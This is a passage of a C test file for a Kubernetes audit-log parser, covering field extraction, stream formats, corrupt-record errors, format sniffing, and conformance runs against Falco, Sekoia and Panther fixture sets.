              q(&h, "[\n  " MINI("a1", "'") ",\n  " MINI("a2", "'") "\n]\n"));
    CHECK_INT(c.ev, 2);
    CHECK_INT(c.bad, 0);
    h_close(&h);

    /* oc adm node-logs output, CRLF, a blank line, a cut last line */
    c = h_run(&h, &ty_parser_k8s_audit,
              q(&h, "master-0 " MINI("n1", "'") "\r\n\r\nmaster-1 " MINI("n2", "'")
                    "\nmaster-1 {'kind':'Event','verb':'get','auditID':'x"));
    CHECK_INT(h.ctx.frame.kind, TY_FRAME_LINES);
    CHECK_INT(c.ev, 2);
    CHECK_INT(c.bad, 1);
    CHECK(strstr(h.out.buf, "\"host\":\"master-1\"") != NULL);
    h_close(&h);

    /* the log backend itself: the formats.md example and friends */
    {
        struct ty_buf b;
        ty_buf_init(&b, 0);
        ty_buf_adds(&b, q(&h, exec_eks));
        ty_buf_addc(&b, '\n');
        ty_buf_adds(&b, q(&h, node_forbid));
        ty_buf_addc(&b, '\n');
        ty_buf_adds(&b, q(&h, healthz));
        ty_buf_addc(&b, '\n');
        c = h_run(&h, &ty_parser_k8s_audit, b.buf);
        CHECK_INT(c.ev, 3);
        CHECK_INT(c.bad, 0);
        CHECK_STR(h.ctx.shape, "JSON lines, audit.k8s.io/v1");
        h_close(&h);
        ty_buf_release(&b);
    }
}

static void test_corrupt(void)
{
    struct h h;
    const char *head = "{}";
    h_open(&h, &ty_parser_k8s_audit, head, strlen(head));
    CHECK_INT(h_feed(&h, "not json"), TY_ECORRUPT);
    CHECK_STR(h.err.msg, "not a JSON object: no '{' in the record");
    CHECK_INT(h_feed(&h, "{'verb':'get',"), TY_ECORRUPT);
    CHECK(strncmp(h.err.msg, "not JSON: offset ", 17) == 0);
    CHECK_INT(h_feed(&h, "{'kind': 0}"), TY_ECORRUPT);
    CHECK_STR(h.err.msg, "not a Kubernetes audit Event: missing verb");
    CHECK_INT(h_feed(&h, "{'verb': 7, 'requestReceivedTimestamp':'2024-03-12T14:08:02Z'}"),
              TY_ECORRUPT);
    CHECK_INT(h_feed(&h, "{'verb':'get','auditID':'x'}"), TY_ECORRUPT);
    CHECK_STR(h.err.msg, "Kubernetes audit Event without requestReceivedTimestamp, "
                         "stageTimestamp or metadata.creationTimestamp");
    CHECK_INT(h_feed(&h, "{'verb':'get','requestReceivedTimestamp':'yesterday'}"), TY_ECORRUPT);
    CHECK_STR(h.err.msg, "requestReceivedTimestamp is not an RFC 3339 time: 'yesterday'");
    CHECK_INT(h_feed(&h, "{'verb':'get','requestReceivedTimestamp':'2024-03-12T14:08:02Z',"
                         "'stageTimestamp':5}"),
              TY_ECORRUPT);
    CHECK_STR(h.err.msg, "stageTimestamp is not an RFC 3339 time: ''");
    /* past the int64 nanosecond range (2262) */
    CHECK_INT(h_feed(&h, "{'verb':'get','requestReceivedTimestamp':'9999-12-31T23:59:59.999999Z'}"),
              TY_ECORRUPT);
    CHECK_STR(h.err.msg,
              "requestReceivedTimestamp is not an RFC 3339 time: '9999-12-31T23:59:59.999999Z'");
    CHECK_INT(h_feed(&h, "'just a string'"), TY_ECORRUPT);
    CHECK_INT(h_feed(&h, "{'timestamp':1,'message':5}"), TY_ECORRUPT);
    CHECK_INT(h_feed_raw(&h, "", 0), TY_ECORRUPT);
    /* nulls where objects are expected are tolerated */
    CHECK_INT(h_feed(&h, "{'verb':'get','user':null,'objectRef':null,'sourceIPs':null,"
                         "'annotations':null,'responseStatus':null,'requestReceivedTimestamp':"
                         "'2024-03-12T14:08:02Z','stageTimestamp':null}"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "get");
    h_close(&h);
}

static void test_sniff(void)
{
    int (*sniff)(struct ty_str) = ty_parser_k8s_audit.sniff;
    struct h h;
    h_open(&h, &ty_parser_k8s_audit, "{}", 2);
    CHECK_INT(sniff(ty_str_cstr(q(&h, exec_eks))), 95);
    CHECK_INT(sniff(ty_str_cstr(q(&h, pod_priv))), 95);
    CHECK_INT(sniff(ty_str_cstr("{\"annotations\":{\"authorization.k8s.io/decision\":\"allow\"},"
                                "\"auditID\":\"ca1\",\"kind\":\"Event\",\"apiVersion\":"
                                "\"audit.k8s.io/v1beta1\"")),
              95);
    CHECK_INT(sniff(ty_str_cstr("{\n  \"kind\": \"EventList\",\n  \"apiVersion\": "
                                "\"audit.k8s.io/v1\",\n  \"items\": [")),
              95);
    CHECK_INT(sniff(ty_str_cstr(q(&h, "{'events':[{'message':'" MINI("w", "^") "'}]}"))), 95);
    CHECK_INT(sniff(ty_str_cstr(q(&h, "node-1 " MINI("w", "'")))), 95);
    /* old v1beta1 events with only "timestamp" */
    CHECK_INT(sniff(ty_str_cstr(q(&h, "{'auditID':'a','kind':'Event','timestamp':'2018-10-26T13:"
                                      "38:34Z','verb':'create'}"))),
              80);
    /* sekoia-style: no kind/apiVersion */
    CHECK_INT(sniff(ty_str_cstr(q(&h, "{'level': 'RequestResponse','auditID': 'x','verb': "
                                      "'create','requestReceivedTimestamp': 'y'}"))),
              85);
    /* CloudTrail, plain or inside CloudWatch events: no claim */
    CHECK_INT(sniff(ty_str_cstr(q(&h, "{'Records':[{'eventVersion':'1.08','userIdentity':{},"
                                      "'eventSource':'eks.amazonaws.com','requestParameters':"
                                      "{'x':'audit.k8s.io/v1','auditID':'1'}}]}"))),
              0);
    CHECK_INT(sniff(ty_str_cstr(q(&h, "{'events':[{'message':'{^eventVersion^:^1.08^,"
                                      "^eventSource^:^s3.amazonaws.com^}'}]}"))),
              0);
    CHECK_INT(sniff(ty_str_cstr("2 111122223333 eni-0a1b2c3d4e5f60718 198.51.100.23 10.0.12.45 "
                                "51544 22 6 14 2712 1710252300 1710252360 ACCEPT OK\n")),
              0);
    CHECK_INT(sniff(ty_str_cstr("#separator \\x09\n#set_separator\t,\n")), 0);
    CHECK_INT(sniff(ty_str_cstr("Mar 12 14:08:02 host sshd[1]: Accepted publickey\n")), 0);
    CHECK_INT(sniff(ty_str_cstr("{}")), 0);
    CHECK_INT(sniff(ty_str_cstr("")), 0);
    /* Azure diagnostic records with AKS kube-audit: low, for the Azure parser */
    CHECK_INT(sniff(ty_str_cstr(q(&h, "{'records':[{'resourceId':'/SUBSCRIPTIONS/x','category':"
                                      "'kube-audit','properties':{'log':'{^kind^:^Event^,"
                                      "^apiVersion^:^audit.k8s.io/v1^,^auditID^:^1^}'}}]}"))),
              30);
    h_close(&h);
}

/* ---- conformance -------------------------------------------------------- */

static int cmp_names(const void *a, const void *b)
{
    return strcmp(*(char *const *)a, *(char *const *)b);
}

/* Sorted *.json names of a directory (malloc'd, NULL-terminated); NULL if absent. */
static char **list_json(const char *dir, size_t *n)
{
    DIR *d = opendir(dir);
    struct dirent *de;
    char **names = NULL;
    size_t cap = 0;
    *n = 0;
    if (!d)
        return NULL;
    while ((de = readdir(d))) {
        size_t l = strlen(de->d_name);
        if (l < 6 || strcmp(de->d_name + l - 5, ".json") != 0)
            continue;
        if (*n + 1 >= cap) {
            cap = cap ? cap * 2 : 64;
            names = realloc(names, cap * sizeof(*names));
        }
        names[(*n)++] = strdup(de->d_name);
    }
    closedir(d);
    if (names) {
        qsort(names, *n, sizeof(*names), cmp_names);
        names[*n] = NULL;
    }
    return names;
}

static void free_names(char **names, size_t n)
{
    for (size_t i = 0; i < n; i++)
        free(names[i]);
    free(names);
}

static bool msg_has(const struct ty_event *ev, const char *needle)
{
    struct ty_str m = ty_event_str(ev, TY_F_MESSAGE);
    char buf[1100];
    snprintf(buf, sizeof(buf), "%.*s", (int)m.len, m.p ? m.p : "");
    return strstr(buf, needle) != NULL;
}

/* falco test/trace_files/k8s_audit: 47 files of v1beta1 (and a few v1) lines */
static void conf_falco(const char *data)
{
    char dir[512], path[1024];
    size_t n_files = 0, n_rec = 0, n_ev = 0, n_bad = 0;
    snprintf(dir, sizeof(dir), "%s/falcosecurity-falco/test/trace_files/k8s_audit", data);
    char **names = list_json(dir, &n_files);
    if (!names) {
        ty_test_skip("falco k8s_audit traces not found");
        return;
    }
    CHECK_INT(n_files, 47);
    for (size_t f = 0; f < n_files; f++) {
        size_t len;
        snprintf(path, sizeof(path), "%s/%s", dir, names[f]);
        char *buf = ty_test_read_file(path, &len);
        struct h h;
        CHECK(buf != NULL);
        if (!buf)
            continue;
        h_open(&h, &ty_parser_k8s_audit, buf, len > 65536 ? 65536 : len);
        /* the falco traces are v1beta1 lines without apiVersion */
        if (strcmp(names[f], "fal_01_003.json") != 0)
            CHECK(ty_parser_k8s_audit.sniff(h.ctx.head) >= 90);
        CHECK_INT(h.ctx.frame.kind, TY_FRAME_LINES);
        char *line = buf, *end = buf + len;
        unsigned file_ev = 0;
        struct ty_event first;
        memset(&first, 0, sizeof(first));
        while (line < end) {
            char *nl = memchr(line, '\n', (size_t)(end - line));
            size_t l = nl ? (size_t)(nl - line) : (size_t)(end - line);
            if (l) {
                int rc = h_feed_raw(&h, line, l);
                n_rec++;
                if (rc == TY_OK) {
                    n_ev += h.n;
                    if (!file_ev)
                        first = h.last;
                    file_ev += h.n;
                } else {
                    n_bad++;
                    /* the one malformed trace: {"kind": 0} (a falco parser test) */
                    if (strcmp(names[f], "fal_01_003.json") != 0)
                        ty_test_fail(__FILE__, __LINE__, "%s: rc %d: %s", names[f], rc,
                                     h.err.msg);
                }
            }
            line += l + 1;
        }
        if (file_ev) {
            const struct ty_event *ev = &first;
            CHECK(ty_event_has(ev, TY_F_TS) && ty_event_has(ev, TY_F_ACTOR) &&
                  ty_event_has(ev, TY_F_ACTION) && ty_event_has(ev, TY_F_SRC_IP));
            const char *nm = names[f];
            if (strcmp(nm, "exec_pod.json") == 0) {
                CHECK_SPAN(ty_event_str(ev, TY_F_ACTION), "create pods/exec");
                CHECK_SPAN(ty_event_str(ev, TY_F_PROC_CMDLINE), "bash");
                CHECK_SPAN(ty_event_str(ev, TY_F_CONTAINER_NAME), "nginx1");
                CHECK_SPAN(ty_event_str(ev, TY_F_OUTCOME), "success");
                CHECK_INT(ty_event_int(ev, TY_F_TS, 0), INT64_C(1540561114867116000));
            }
            if (strcmp(nm, "attach_pod.json") == 0)
                CHECK_SPAN(ty_event_str(ev, TY_F_TARGET_KIND), "pods/attach");
            if (strstr(nm, "privileged") && !strstr(nm, "unprivileged"))
                CHECK(msg_has(ev, "privileged=true"));
            if (strstr(nm, "unprivileged"))
                CHECK(!msg_has(ev, "privileged=true"));
            if (strstr(nm, "pod_hostnetwork"))
                CHECK(msg_has(ev, "hostNetwork=true"));
            if (strstr(nm, "nohostnetwork"))
                CHECK(!msg_has(ev, "hostNetwork=true"));
            if (strstr(nm, "_sensitive_mount"))
                CHECK(msg_has(ev, "hostPath=/etc"));
            if (strstr(nm, "anonymous_"))
                CHECK_SPAN(ty_event_str(ev, TY_F_ACTOR_TYPE), "Anonymous");
        } else if (strcmp(names[f], "fal_01_003.json") != 0) {
            ty_test_fail(__FILE__, __LINE__, "%s: no event", names[f]);
        }
        h_close(&h);
        free(buf);
    }
    CHECK_INT(n_bad, 1);
    fprintf(stderr, "  k8s-audit falco: %zu files, %zu records, %zu events, %zu corrupt "
                    "(fal_01_003.json is {\"kind\": 0})\n",
            n_files, n_rec, n_ev, n_bad);
    free_names(names, n_files);
}

static const char *jget(cJSON *o, const char *path)
{
    char buf[256];
    snprintf(buf, sizeof(buf), "%s", path);
    for (char *p = buf, *dot; o && p; p = dot ? dot + 1 : NULL) {
        dot = strchr(p, '.');
        if (dot)
            *dot = '\0';
        o = cJSON_GetObjectItemCaseSensitive(o, p);
    }
    return cJSON_IsString(o) ? o->valuestring : NULL;
}

static void check_span_eq(const char *set, const char *file, const char *what,
                          struct ty_str got, const char *want)
{
    if (!want)
        return;
    if (got.len != strlen(want) || (got.len && memcmp(got.p, want, got.len) != 0))
        ty_test_fail(__FILE__, __LINE__, "%s %s: %s is '%.*s', expected '%s'", set, file, what,
                     (int)got.len, got.p ? got.p : "", want);
}

/* sekoia Kubernetes/audit-log/tests: input.message vs the expected ECS fields */
static void conf_sekoia(const char *data)
{
    char dir[512], path[1024], ipb[TY_IP_STRLEN];
    size_t n_files = 0, n_ev = 0;
    snprintf(dir, sizeof(dir), "%s/sekoia-intake-formats/Kubernetes/audit-log/tests", data);
    char **names = list_json(dir, &n_files);
    if (!names) {
        ty_test_skip("sekoia Kubernetes audit-log tests not found");
        return;
    }
    for (size_t f = 0; f < n_files; f++) {
        snprintf(path, sizeof(path), "%s/%s", dir, names[f]);
        char *buf = ty_test_read_file(path, NULL);
        cJSON *root = buf ? cJSON_Parse(buf) : NULL;
        const char *msg = jget(root, "input.message");
        cJSON *exp = cJSON_GetObjectItemCaseSensitive(root, "expected");
        struct h h;
        CHECK(msg != NULL);
        if (!msg)
            goto next;
        h_open(&h, &ty_parser_k8s_audit, msg, strlen(msg));
        CHECK(ty_parser_k8s_audit.sniff(h.ctx.head) >= 80);
        int rc = h_feed_raw(&h, msg, strlen(msg));
        if (rc != TY_OK) {
            ty_test_fail(__FILE__, __LINE__, "sekoia %s: rc %d: %s", names[f], rc, h.err.msg);
        } else {
            const struct ty_event *ev = &h.last;
            struct ty_str action = ty_event_str(ev, TY_F_ACTION);
            ptrdiff_t sp = ty_str_chr(action, ' ');
            n_ev += h.n;
            /* sekoia's user.name is the impersonated user when there is one: ours
             * keeps the authenticated one in actor, that one in actor_effective */
            bool imp = strstr(msg, "\"impersonatedUser\"") != NULL;
            check_span_eq("sekoia", names[f], "actor",
                          ty_event_str(ev, imp ? TY_F_ACTOR_EFFECTIVE : TY_F_ACTOR),
                          jget(exp, "user.name"));
            check_span_eq("sekoia", names[f], "verb",
                          sp < 0 ? action : ty_str_make(action.p, (size_t)sp),
                          jget(exp, "event.action"));
            check_span_eq("sekoia", names[f], "vendor_id", ty_event_str(ev, TY_F_VENDOR_ID),
                          jget(exp, "event.code"));
            check_span_eq("sekoia", names[f], "time", ty_event_str(ev, TY_F_TIME_TEXT),
                          jget(exp, "event.start"));
            check_span_eq("sekoia", names[f], "namespace", ty_event_str(ev, TY_F_K8S_NAMESPACE),
                          jget(exp, "kubernetes.namespace"));
            check_span_eq("sekoia", names[f], "name", ty_event_str(ev, TY_F_TARGET_NAME),
                          jget(exp, "kubernetes.object.name"));
            check_span_eq("sekoia", names[f], "request_uri", ty_event_str(ev, TY_F_REQUEST_URI),
                          jget(exp, "url.path"));
            check_span_eq("sekoia", names[f], "user_agent", ty_event_str(ev, TY_F_USER_AGENT),
                          jget(exp, "user_agent.original"));
            /* sekoia takes the first sourceIPs entry (client-claimed); ours is the
             * last (the socket peer), the first going to src_nat_ip */
            const char *ip = jget(exp, "source.ip");
            if (ip)
                CHECK_STR(ipstr(ev, ty_event_has(ev, TY_F_SRC_NAT_IP) ? TY_F_SRC_NAT_IP
                                                                       : TY_F_SRC_IP,
                                ipb),
                          ip);
            const char *oc = jget(exp, "event.outcome");
            if (oc && strcmp(oc, "allow") == 0)
                CHECK_SPAN(ty_event_str(ev, TY_F_DISPOSITION), "allowed");
            if (oc && strcmp(oc, "forbid") == 0)
                CHECK_SPAN(ty_event_str(ev, TY_F_DISPOSITION), "blocked");
            const char *res = jget(exp, "kubernetes.resource");
            const char *sub = jget(exp, "kubernetes.subresource");
            if (res) {
                char kind[128];
                snprintf(kind, sizeof(kind), "%s%s%s", res, sub ? "/" : "", sub ? sub : "");
                check_span_eq("sekoia", names[f], "target_kind",
                              ty_event_str(ev, TY_F_TARGET_KIND), kind);
            }
            cJSON *code = cJSON_GetObjectItemCaseSensitive(
                cJSON_GetObjectItemCaseSensitive(
                    cJSON_GetObjectItemCaseSensitive(exp, "http"), "response"),
                "status_code");
            if (cJSON_IsNumber(code)) {
                char want[32];
                snprintf(want, sizeof(want), "%d", code->valueint);
                check_span_eq("sekoia", names[f], "status_code",
                              ty_event_str(ev, TY_F_STATUS_CODE), want);
            }
        }
        h_close(&h);
    next:
        cJSON_Delete(root);
        free(buf);
    }
    CHECK_INT(n_ev, n_files);
    fprintf(stderr, "  k8s-audit sekoia: %zu files, %zu events, 0 corrupt\n", n_files, n_ev);
    free_names(names, n_files);
}

/* panther _derived/tests.Amazon.EKS.Audit.jsonl: the "log" member of each line.
 * These are hand-trimmed rule fixtures: many lack every timestamp (or verb),
 * which must be quarantined; every other one must parse. */
static void conf_panther(const char *data)
{
    char path[1024], ipb[TY_IP_STRLEN];
    size_t len, n_rec = 0, n_ev = 0, n_bad = 0, n_no_time = 0, n_no_verb = 0;
    struct ty_json_doc outer;
    struct ty_err err;
    snprintf(path, sizeof(path), "%s/panther-analysis/_derived/tests.Amazon.EKS.Audit.jsonl",
             data);
    char *buf = ty_test_read_file(path, &len);
    if (!buf) {
        ty_test_skip("panther EKS audit tests not found");
        return;
    }
    ty_json_doc_init(&outer, 0, 0);
    struct h h;
    h_open(&h, &ty_parser_k8s_audit, buf, len > 65536 ? 65536 : len);
    char *line = buf, *end = buf + len;
    while (line < end) {
        char *nl = memchr(line, '\n', (size_t)(end - line));
        size_t l = nl ? (size_t)(nl - line) : (size_t)(end - line);
        if (!l) {
            line += 1;
            continue;
        }
        CHECK_INT(ty_json_parse(&outer, line, l, &err), 0);
        uint32_t log = ty_json_get(&outer, 0, "log");
        struct ty_str raw = ty_json_raw(&outer, log);
        /* the oracle: cJSON says whether the record has a verb and a time */
        char *copy = strndup(raw.p, raw.len);
        cJSON *o = cJSON_Parse(copy);
        bool has_verb = jget(o, "verb") && jget(o, "verb")[0];
        bool has_time = jget(o, "requestReceivedTimestamp") || jget(o, "stageTimestamp") ||
                        jget(o, "metadata.creationTimestamp") || jget(o, "timestamp");
        int rc = h_feed_raw(&h, raw.p, raw.len);
        n_rec++;
        if (has_verb && has_time) {
            if (rc != TY_OK)
                ty_test_fail(__FILE__, __LINE__, "panther line %zu: rc %d: %s", n_rec, rc,
                             h.err.msg);
            else {
                n_ev += h.n;
                check_span_eq("panther", "line", "actor", ty_event_str(&h.last, TY_F_ACTOR),
                              jget(o, "user.username"));
                cJSON *ips = cJSON_GetObjectItemCaseSensitive(o, "sourceIPs");
                int ni = cJSON_GetArraySize(ips);
                if (ni > 0 && cJSON_IsString(cJSON_GetArrayItem(ips, ni - 1)))
                    CHECK_STR(ipstr(&h.last, TY_F_SRC_IP, ipb),
                              cJSON_GetArrayItem(ips, ni - 1)->valuestring);
            }
        } else {
            n_bad++;
            n_no_verb += !has_verb;
            n_no_time += has_verb && !has_time;
            if (rc != TY_ECORRUPT)
                ty_test_fail(__FILE__, __LINE__, "panther line %zu: rc %d, expected ECORRUPT",
                             n_rec, rc);
        }
        cJSON_Delete(o);
        free(copy);
        ty_arena_reset(&h.arena);
        line += l + 1;
    }
    CHECK_INT(n_rec, 188);
    fprintf(stderr,
            "  k8s-audit panther: %zu records, %zu events, %zu corrupt (trimmed fixtures: %zu "
            "without verb, %zu without any timestamp)\n",
            n_rec, n_ev, n_bad, n_no_verb, n_no_time);
    h_close(&h);
    ty_json_doc_release(&outer);
    free(buf);
}

void test_parse_k8s_audit(void);
void test_parse_k8s_audit(void)
{
    test_fields();
    test_shapes();
    test_streams();
    test_corrupt();
    test_sniff();
    const char *data = ty_test_data_dir();
    if (!data) {
        ty_test_skip("no shared data: conformance sets skipped");
        q_release();
        return;
    }
    conf_falco(data);
    conf_sekoia(data);
    conf_panther(data);
    q_release();
}
